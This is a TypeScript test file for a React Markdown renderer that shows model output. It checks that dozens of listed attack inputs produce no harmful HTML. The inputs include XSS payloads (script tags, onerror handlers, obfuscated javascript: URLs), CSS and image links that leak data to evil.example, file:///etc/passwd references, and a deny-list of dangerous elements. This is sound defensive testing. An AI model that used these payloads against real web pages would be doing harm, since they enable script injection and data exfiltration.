import { cleanup, render } from '@testing-library/react'
import { afterEach, describe, expect, test } from 'vitest'
import { Markdown } from './markdown.tsx'

afterEach(cleanup)

function draw(text: string, streaming = false): HTMLElement {
  return render(<Markdown text={text} streaming={streaming} onOpenLink={() => undefined} />).container
}

/** Elements that only raw HTML could make, or that load, run or embed something. */
const forbidden =
  'img,picture,source,video,audio,iframe,frame,object,embed,applet,script,style,link,meta,base,form,input,select,textarea,math,canvas,template,noscript,portal,slot,marquee,details,dialog,b,i,u,center,font,[onerror],[onload],[onclick],[onmouseover],[onfocus],[srcdoc],[style*="url"],[id],[name],[src]'

/** What of a document could do harm, as HTML. */
function harms(container: HTMLElement): string[] {
  const foreign = [...container.querySelectorAll('a')].filter(
    (anchor) =>
      anchor.hasAttribute('target') ||
      !['http:', 'https:', 'mailto:'].includes(URL.parse(anchor.getAttribute('href') ?? '')?.protocol ?? ''),
  )
  // The signs on buttons and chips are ours; a model's would hold more.
  const drawn = container.querySelectorAll('svg:not(.lucide), svg script, svg a, svg image')
  return [...container.querySelectorAll(forbidden), ...foreign, ...drawn].map((element) => element.outerHTML)
}

const attacks: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/?q=secret">',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="https://evil.example">looks right</a>',
  '<style>body{background:url(https://evil.example)}</style>',
  '<div style="background:url(https://evil.example)">x</div>',
  '<form action="https://evil.example"><input name=x><button>Approve</button></form>',
  '<base href="https://evil.example/"><link rel=stylesheet href=x>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<!-- --><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x>]]>',
  '<?php echo 1 ?><b>x</b>',
  '<b>bold</b> text <i>x</i>',
  'text <img\nsrc=x\nonerror=alert(1)> text',
  '- <script>alert(1)</script>\n  <img src=x>',
  '> <iframe src=https://evil.example></iframe>',
  '| <img src=x> | b |\n|---|---|\n| <script>x</script> | <a href=javascript:x>y</a> |',
  '# <img src=x onerror=alert(1)>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '![x](https://evil.example/?q=secret)',
  '![x](http://evil.example/a.png "title")',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x](data:image/png;base64,iVBORw0KGgo=)',
  '![x](//evil.example/a.png)',
  '![x](file:///etc/passwd)',
  '![x](javascript:alert(1))',
  '![x][ref]\n\n[ref]: https://evil.example/?q=secret',
  '![ref]\n\n[ref]: https://evil.example/?q=secret',
  '[![x](https://evil.example/i.png)](https://evil.example/l)',
  '[![x](https://evil.example/i.png)](javascript:alert(1))',
  '![a ![b](https://evil.example/b) c](https://evil.example/c)',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](java&Tab;script:alert(1))',
  '[x](java&NewLine;script:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A;&#x61;vascript&#58;alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](\u200Bjavascript:alert(1))',
  '[x]( javascript:alert(1) )',
  '[x](<javascript:alert(1)>)',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://evil.example/1)',
  '[x](view-source:https://evil.example)',
  '[x](ms-settings:privacy)',
  '[x](hearth://main/)',
  '[x](app://hearth/index.html)',
  '[x](/relative)',
  '[x](//evil.example)',
  '[x](#anchor)',
  '[x](?q)',
  '[x](https:)',
  '[x](https://)',
  '[x](https://exa\u202Emple.org)',
  '[x](https://evil.example "onmouseover=alert(1) x=\\"")',
  '[x](https://evil.example/"onmouseover="alert(1))',
  '[a [b](javascript:alert(1)) c](https://evil.example)',
  '[[[[x](javascript:alert(1))](javascript:alert(2))]',
  '[x][r]\n\n[r]: javascript:alert(1)',
  '[r]\n\n[r]: <java\tscript:alert(1)>',
  '[constructor]\n\n[__proto__][toString]',
  '[x][__proto__]\n\n[__proto__]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '<data:text/html,x>',
  '<https://evil.example/<script>>',
  'www.evil.example/<img src=x>',
  'javascript:alert(1)',
  'ftp://evil.example/x',
  '`<img src=x onerror=alert(1)>`',
  '```html\n<img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```',
  '```"><img src=x onerror=alert(1)>\nx\n```',
  '    <script>alert(1)</script>',
  '[^1]\n\n[^1]: <img src=x> ![x](https://evil.example)',
  '[^<img src=x>]',
  '- [x] <input type=checkbox onclick=alert(1)>',
]

describe('what a model writes makes no element but those of Markdown', () => {
  test.each(attacks)('%s', (text) => {
    expect(harms(draw(text))).toEqual([])
    cleanup()
    expect(harms(draw(text, true))).toEqual([])
  })

  test('all of them in one document', () => {
    expect(harms(draw(attacks.join('\n\n')))).toEqual([])
  })
})

test('raw HTML is shown as it was written', () => {
  expect(draw('a <b>bold</b> <img src=x onerror=alert(1)>').textContent).toBe(
    'a <b>bold</b> <img src=x onerror=alert(1)>',
  )
  cleanup()
  expect(draw('<div>\n*x*\n</div>').querySelector('em')?.textContent).toBe('x')
})

test('an address that may not be opened leaves the text alone', () => {
  const container = draw('[press](javascript:alert(1)) and [this](https://example.org/)')
  expect(container.textContent).toBe('press and this')
  expect([...container.querySelectorAll('a')].map((a) => a.href)).toEqual(['https://example.org/'])
})

test('a link that names one host and leads to another shows where it leads', () => {
  const container = draw(
    '[https://bank.example/login](https://evil.example/) and [www.bank.example](https://bank.example/)',
  )
  expect(container.textContent).toBe('https://bank.example/login (evil.example) and www.bank.example')
})

test('a look-alike host is shown in ASCII where the link is looked at', () => {
  expect(draw('[https://аpple.com](https://аpple.com)').querySelector('a')?.title).toBe(
    'https://xn--pple-43d.com/',
  )
})

test.each([
  ['>'.repeat(5_000), '>'],
  [`${'- '.repeat(2_000)}x`, '-'],
  [`${'1. '.repeat(2_000)}x`, '1.'],
  [Array.from({ length: 90 }, (_, index) => `${' '.repeat(index * 2)}- a`).join('\n'), 'a'],
  [`${'*a '.repeat(800)}${' b*'.repeat(800)}`, 'a'],
  ['[a]('.repeat(1_500), '[a]('],
  ['<a '.repeat(1_500), '<a'],
])('what is nested without end is shown without end: %.12s', (text, shown) => {
  const container = draw(text)
  expect(container.textContent).toContain(shown)
  let depth = 0
  for (const element of container.querySelectorAll('*:empty, p')) {
    let at: Element | null = element
    let count = 0
    while ((at = at.parentElement)) count += 1
    depth = Math.max(depth, count)
  }
  expect(depth).toBeLessThan(120)
})

test('every beginning of a document of attacks is harmless while it streams', () => {
  const text = attacks.filter((_, index) => index % 3 === 0).join('\n\n')
  const { container, rerender } = render(<Markdown text="" streaming onOpenLink={() => undefined} />)
  const found: string[] = []
  for (let length = 1; length <= text.length; length += 1) {
    rerender(<Markdown text={text.slice(0, length)} streaming onOpenLink={() => undefined} />)
    if (length % 5 === 0 || length === text.length) found.push(...harms(container))
  }
  expect(found).toEqual([])
  expect(container.querySelectorAll('a').length).toBeGreaterThan(0)
})
